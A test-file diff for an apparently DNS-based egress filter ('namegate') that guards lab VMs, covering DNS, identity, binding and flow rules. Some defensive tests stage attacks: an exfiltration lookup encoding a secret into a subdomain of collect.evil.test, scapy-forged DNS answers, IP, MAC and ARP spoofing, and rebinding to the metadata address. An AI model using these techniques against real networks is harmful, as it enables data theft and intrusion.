@@ -1,0 +1,366 @@
+"""The fast path end to end (SPEC s4 steps 1-4 and 7), through the real daemon on
+net_af_packet in the lab: every blocked case is paired with an allowed control, and
+asserted on what the client saw, what the fake internet received, and the counter that
+moved."""
+import copy
+import json
+import os
+import subprocess
+import time
+
+import pytest
+
+import lab as labmod
+import lab_namegate
+import lab_services as svc
+import ng_counters as nc
+
+
+def _binary():
+    binary = os.environ.get("NAMEGATE_BIN")
+    if not binary or not os.access(binary, os.X_OK):
+        pytest.skip("NAMEGATE_BIN is not set to a built namegate (no DPDK?)")
+    return binary
+
+
+def _policies():
+    p = copy.deepcopy(lab_namegate.DEFAULT_POLICIES)
+    p["python"]["allow"] += ["*.bulk.test", "rebind-metadata.test", "rebind-vm.test"]
+    return p
+
+
+def _vms():
+    return labmod.default_vms(2) + [labmod.VM("vm3", "02:00:00:00:00:03", "10.77.0.13",
+                                              "fd77::13", "python", mode="audit")]
+
+
+def start(request, **config):
+    lab = labmod.Lab(mode="namegate", vms=_vms(), policies=_policies(),
+                     namegate_cmd=[_binary(), "-c", "{config}"], config=config or None)
+    request.addfinalizer(lab.teardown)
+    return lab.setup()
+
+
+@pytest.fixture(scope="module")
+def ng(request):
+    return start(request)
+
+
+def queried(lab, name):
+    return any(n == name for _, n, _ in lab.resolver_queries())
+
+
+# ---------------------------------------------------------------- DNS (step 2)
+
+def test_allowed_name_resolves_and_connects(ng):
+    with nc.Delta(ng) as d:
+        r = ng.curl("vm1", "https://pypi.org/")
+    assert r.ok, r.stderr
+    assert r.json()["server"] == "pypi" and r.json()["client"] == "10.77.0.11"
+    assert d[nc.dns("vm1", "allowed")] >= 1
+    assert d[nc.egress("vm1", "allowed")] >= 3          # query, SYN, ClientHello at least
+    assert nc.read(ng)[nc.vm_key("namegate_vm_bindings", "vm1")] >= 1
+
+
+def test_denied_name_answered_by_namegate_and_never_forwarded(ng):
+    secret = "73656372657420746f6b656e.collect.evil.test"
+    with nc.Delta(ng) as d:
+        r = ng.dig("vm1", secret, "TXT", edns=True)
+    assert r.rcode == "REFUSED" and r.ede == 15
+    assert not queried(ng, secret)
+    assert d[nc.blocked("vm1", "dns_denied")] == 1 and d[nc.dns("vm1", "blocked")] == 1
+    control = ng.dig("vm1", "files.pythonhosted.org")
+    assert control.rcode == "NOERROR" and control.addresses == ["203.0.113.11"]
+    assert queried(ng, "files.pythonhosted.org")
+
+
+def test_denied_name_without_edns_has_no_ede(ng):
+    r = ng.dig("vm1", "evil.test")
+    assert r.rcode == "REFUSED" and r.ede is None
+
+
+def test_dns_to_another_server_dropped(ng):
+    name = "objects.githubusercontent.com"
+    with nc.Delta(ng) as d:
+        r = ng.dig("vm1", name, server=svc.ROGUE_RESOLVER, timeout=1)
+    assert r.rcode is None and not queried(ng, name)
+    assert d[nc.blocked("vm1", "dns_denied")] == 1
+    assert ng.dig("vm1", name).addresses == ["203.0.113.13"] and queried(ng, name)
+
+
+def test_dns_over_tcp_filtered_message_by_message(ng):
+    ok = ng.dig("vm1", "pypi.org", tcp=True)
+    assert ok.rcode == "NOERROR" and ok.addresses == ["203.0.113.10"]
+    with nc.Delta(ng) as d:
+        bad = ng.dig("vm1", "tcp.collect.evil.test", tcp=True, timeout=1)
+    assert bad.rcode is None and not queried(ng, "tcp.collect.evil.test")
+    assert d[nc.blocked("vm1", "dns_denied")] == 1
+
+
+def test_forged_answer_with_the_vms_query_id_is_dropped(ng):
+    """The query leaves with namegate's own ID, so an accomplice outside who knows the VM's
+    ID (0x4242) and port cannot get a forged answer in."""
+    name = "forge.githubusercontent.com"
+    forger = subprocess.Popen(
+        ["ip", "netns", "exec", ng.inet_ns, labmod.PYTHON, "-c",
+         "from scapy.all import *\nimport time\nconf.verb = 0\n"
+         f"a = IP(src={svc.RESOLVER!r}, dst='10.77.0.11')/UDP(sport=53, dport=33333)/"
+         f"DNS(id=0x4242, qr=1, qd=DNSQR(qname={name!r}), "
+         f"an=DNSRR(rrname={name!r}, rdata='203.0.113.66'))\n"
+         "for _ in range(30):\n    send(a, iface='eth0')\n    time.sleep(0.05)\n"],
+        stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
+    try:
+        with nc.Delta(ng) as d:
+            out = ng.scapy("vm1", f"""
+                import time
+                s = AsyncSniffer(filter='udp and src port 53 and dst port 33333', iface=VM['iface'])
+                s.start(); time.sleep(0.3)
+                send(IP(dst=RESOLVER)/UDP(sport=33333, dport=53)/DNS(id=0x4242, rd=1,
+                     qd=DNSQR(qname={name!r})))
+                time.sleep(2); got = s.stop()
+                print(json.dumps([[p[DNS].id, p[DNS].rcode,
+                    [p[DNS].an[i].rdata for i in range(p[DNS].ancount)]] for p in got]))
+            """, timeout=30)
+    finally:
+        forger.wait(10)
+    answers = json.loads(out.stdout.strip().splitlines()[-1])
+    assert answers, out.stderr
+    assert all(a[0] == 0x4242 and "203.0.113.66" not in a[2] for a in answers)
+    assert any(a[1] == 3 for a in answers)            # the real resolver's NXDOMAIN
+    assert d[nc.blocked("vm1", "unsolicited")] >= 1
+
+
+# ---------------------------------------------------------------- identity (step 1)
+
+def test_spoofed_source_address_dropped(ng):
+    name = "spoof.githubusercontent.com"
+    with nc.Delta(ng) as d:
+        ng.scapy("vm1", f"""
+            send(IP(src='10.77.0.99', dst=RESOLVER)/UDP(sport=5300, dport=53)/
+                 DNS(rd=1, qd=DNSQR(qname={name!r})))
+        """)
+        time.sleep(0.3)
+    assert not queried(ng, name)
+    assert d[nc.blocked("vm1", "spoofed")] == 1
+    out = ng.scapy("vm1", f"""
+        r = sr1(IP(dst=RESOLVER)/UDP(sport=5301, dport=53)/DNS(rd=1, qd=DNSQR(qname={name!r})),
+                timeout=2)
+        print(r[DNS].rcode if r else 'none')
+    """)
+    assert out.stdout.strip() == "3" and queried(ng, name)
+
+
+def test_unknown_mac_dropped(ng):
+    name = "mac.githubusercontent.com"
+    with nc.Delta(ng) as d:
+        ng.scapy("vm1", f"""
+            sendp(Ether(src='02:00:00:00:00:99', dst=ROUTER_MAC)/IP(src=VM['ipv4'], dst=RESOLVER)/
+                  UDP(sport=5302, dport=53)/DNS(rd=1, qd=DNSQR(qname={name!r})), iface=VM['iface'])
+        """)
+        time.sleep(0.3)
+    assert not queried(ng, name)
+    assert d[nc.blocked("unknown", "spoofed")] == 1
+
+
+def test_arp_only_with_the_vms_own_address(ng):
+    with nc.Delta(ng) as d:
+        ng.scapy("vm1", """
+            sendp(Ether(src=VM['mac'], dst='ff:ff:ff:ff:ff:ff')/ARP(op=2, hwsrc=VM['mac'],
+                  psrc='10.77.0.12', hwdst=ROUTER_MAC, pdst=ROUTER4), iface=VM['iface'])
+        """)
+        time.sleep(0.3)
+    assert d[nc.blocked("vm1", "spoofed")] == 1
+    neigh = ng.inet_exec(["ip", "neigh", "show", "10.77.0.12"]).stdout
+    assert "02:00:00:00:00:01" not in neigh             # vm1 did not steal vm2's address
+    with nc.Delta(ng) as d:
+        ng.scapy("vm1", """
+            sendp(Ether(src=VM['mac'], dst=ROUTER_MAC)/ARP(op=2, hwsrc=VM['mac'],
+                  psrc=VM['ipv4'], hwdst=ROUTER_MAC, pdst=ROUTER4), iface=VM['iface'])
+        """)
+        time.sleep(0.3)
+    assert d[nc.blocked("vm1", "spoofed")] == 0 and d[nc.egress("vm1", "allowed")] == 1
+
+
+# ---------------------------------------------------------------- learning (step 3)
+
+def test_cname_chain_binds_the_target(ng):
+    r = ng.curl("vm1", "https://www.pypi-mirror.test/")
+    assert r.ok and r.json()["server"] == "cdn-edge"
+
+
+def test_ipv6_binding(ng):
+    r = ng.curl("vm1", "https://pypi.org/", ip=6)
+    assert r.ok and r.json()["client"] == "fd77::11" and r.remote_ip == "2001:db8::10"
+
+
+def test_rebinding_address_never_bound(ng):
+    with nc.Delta(ng) as d:
+        r = ng.dig("vm1", "rebind-metadata.test")
+        c = ng.curl("vm1", "http://rebind-metadata.test/", timeout=2)
+    assert r.rcode == "NOERROR" and r.addresses == ["169.254.169.254"]
+    assert c.outcome == "connection refused"
+    assert d[nc.blocked("vm1", "rebind")] >= 1 and d[nc.blocked("vm1", "no_binding")] >= 1
+    assert ng.curl("vm1", "https://pypi.org/").ok
+
+
+def test_thousand_resolutions_each_followed_at_once_by_a_connection(ng):
+    """The binding is in place before the answer reaches the VM: each of 1,000 names has its
+    own address, and each connection starts the moment its answer is read."""
+    ng.inet_exec(["ip", "route", "replace", "local", svc.BULK_NET, "dev", "lo"], check=True)
+    server = subprocess.Popen(
+        ["ip", "netns", "exec", ng.inet_ns, labmod.PYTHON, "-c",
+         "import socket\ns = socket.socket(); s.setsockopt(socket.SOL_SOCKET, "
+         "socket.SO_REUSEADDR, 1)\ns.setsockopt(socket.SOL_IP, 19, 1)\n"   # IP_FREEBIND
+         "s.bind(('0.0.0.0', 9)); s.listen(1024)\n"
+         "while True:\n    c, _ = s.accept(); c.close()\n"],
+        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    try:
+        time.sleep(0.3)
+        out = ng.vm_python("vm1", f"""
+import socket
+ok = 0
+for i in range({svc.BULK_NAMES}):
+    addr = socket.getaddrinfo(f"n{{i}}.bulk.test", 9, socket.AF_INET,
+                              socket.SOCK_STREAM)[0][4]
+    s = socket.socket()
+    s.settimeout(3)
+    try:
+        s.connect(addr)
+        ok += 1
+    except OSError:
+        pass
+    s.close()
+print(ok)
+""", timeout=180)
+    finally:
+        server.kill()
+        server.wait()
+    assert out.stdout.strip() == str(svc.BULK_NAMES), out.stderr
+    assert nc.read(ng)[nc.vm_key("namegate_vm_bindings", "vm1")] >= svc.BULK_NAMES
+
+
+# ---------------------------------------------------------------- admission (step 4)
+
+def test_unbound_address_gets_a_reset_not_a_timeout(ng):
+    with nc.Delta(ng) as d:
+        r = ng.curl("vm1", "https://203.0.113.20/", insecure=True)
+    assert r.outcome == "connection refused"
+    assert not ng.server_events(kind="accept", addr="203.0.113.20", client="10.77.0.11")
+    assert d[nc.blocked("vm1", "no_binding")] == 1
+
+
+def test_bindings_are_per_vm(ng):
+    assert ng.curl("vm1", "https://pypi.org/").ok
+    stolen = ng.curl("vm2", "https://pypi.org/", resolve="pypi.org:443:203.0.113.10")
+    assert stolen.outcome == "connection refused"
+    own = ng.curl("vm2", "https://github.com/")
+    assert own.ok and own.json()["server"] == "github"
+
+
+def test_port_rules(ng):
+    """python allows github.com:22 only: the name resolves, port 22 opens, 443 does not."""
+    assert ng.dig("vm1", "github.com").addresses == ["203.0.113.12"]
+    assert ng.curl("vm1", "https://github.com/").outcome == "connection refused"
+    out = ng.vm_python("vm1", """
+import socket
+s = socket.create_connection(("203.0.113.12", 22), timeout=3)
+s.sendall(b"ssh?"); print(s.recv(10).decode())
+""")
+    assert out.stdout.strip() == "ssh?", out.stderr
+
+
+def test_address_pattern(ng):
+    r = ng.curl("vm1", "https://198.51.100.7/")
+    assert r.ok and r.json()["server"] == "literal"
+    assert ng.curl("vm1", "http://198.51.100.7/").outcome == "connection refused"
+    assert ng.curl("vm2", "https://198.51.100.7/").outcome == "connection refused"
+
+
+def test_inbound_without_a_flow_dropped(ng):
+    with nc.Delta(ng) as d:
+        probe = subprocess.Popen(
+            ["ip", "netns", "exec", ng.vm("vm1").ns, labmod.PYTHON, "-c",
+             "from scapy.all import *\nimport time\nconf.verb = 0\n"
+             "s = AsyncSniffer(filter='src host 203.0.113.20', iface='eth0'); s.start()\n"
+             "time.sleep(2.5); print(len(s.stop()))\n"],
+            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+        time.sleep(0.8)
+        ng.ns_exec(ng.inet_ns, [labmod.PYTHON, "-c",
+                                "from scapy.all import *\nconf.verb = 0\n"
+                                "send(IP(src='203.0.113.20', dst='10.77.0.11')/"
+                                "TCP(sport=443, dport=22, flags='S'), iface='eth0')\n"
+                                "send(IP(src='203.0.113.20', dst='10.77.0.11')/"
+                                "UDP(sport=53, dport=5353)/b'x', iface='eth0')\n"])
+        seen = probe.communicate(timeout=20)[0]
+    assert seen.strip() == "0"
+    assert d[nc.blocked("vm1", "unsolicited")] == 2
+
+
+def test_tcp_without_syn_and_without_flow_dropped(ng):
+    ng.dig("vm1", "pypi.org")
+    with nc.Delta(ng) as d:
+        ng.scapy("vm1", """
+            send(IP(dst='203.0.113.10')/TCP(sport=40999, dport=443, flags='PA', seq=1,
+                 ack=1)/b'GET / HTTP/1.0\\r\\n\\r\\n')
+        """)
+        time.sleep(0.3)
+    assert d[nc.blocked("vm1", "unsolicited")] == 1
+
+
+# ---------------------------------------------------------------- audit (step 9)
+
+def test_audit_vm_passes_and_counts_would_block(ng):
+    with nc.Delta(ng) as d:
+        r = ng.curl("vm3", "https://evil.test/")
+    assert r.ok and r.json()["server"] == "evil"
+    assert d[nc.egress("vm3", "would_block")] >= 3
+    assert d[nc.blocked("vm3", "dns_denied")] >= 1 and d[nc.blocked("vm3", "no_binding")] == 1
+
+
+# ---------------------------------------------------------------- flows (step 7)
+
+def test_allowed_flow_outlives_its_binding(request):
+    lab = start(request, dns={"min_ttl": 2, "max_ttl": 2})
+    out = lab.vm_python("vm1", """
+import http.client, socket, ssl, time
+ctx = ssl.create_default_context(cafile=CA)
+addr = socket.getaddrinfo("pypi.org", 443, socket.AF_INET)[0][4][0]
+conn = http.client.HTTPSConnection("pypi.org", 443, context=ctx, timeout=3)
+conn.sock = ctx.wrap_socket(socket.create_connection((addr, 443), timeout=3),
+                            server_hostname="pypi.org")
+def get():
+    conn.request("GET", "/")
+    r = conn.getresponse()
+    r.read()
+    return r.status
+first = get()
+time.sleep(4)                       # the binding (TTL 2) has expired
+again = get()                       # same connection: the flow keeps its verdict
+try:
+    socket.create_connection((addr, 443), timeout=3)
+    fresh = "connected"
+except ConnectionRefusedError:
+    fresh = "refused"
+print(first, again, fresh)
+""".replace("CA", repr(lab.ca_path)), timeout=30)
+    assert out.stdout.split() == ["200", "200", "refused"], out.stderr
+    assert nc.read(lab)[nc.vm_key("namegate_vm_bindings", "vm1")] == 0
+
+
+def test_flow_limit_per_vm(request):
+    lab = start(request, dataplane={"max_flows_per_vm": 4})
+    out = lab.vm_python("vm1", """
+import socket
+addr = socket.getaddrinfo("pypi.org", 7, socket.AF_INET)[0][4][0]
+held, result = [], []
+for i in range(5):
+    try:
+        held.append(socket.create_connection((addr, 7), timeout=3)); result.append("ok")
+    except ConnectionRefusedError:
+        result.append("refused")
+print(" ".join(result))
+""", timeout=30)
+    assert out.stdout.split() == ["ok", "ok", "ok", "ok", "refused"], out.stderr
+    other = lab.curl("vm2", "https://github.com/")
+    assert other.ok
+    assert nc.read(lab)[nc.blocked("vm1", "flow_limit")] == 1
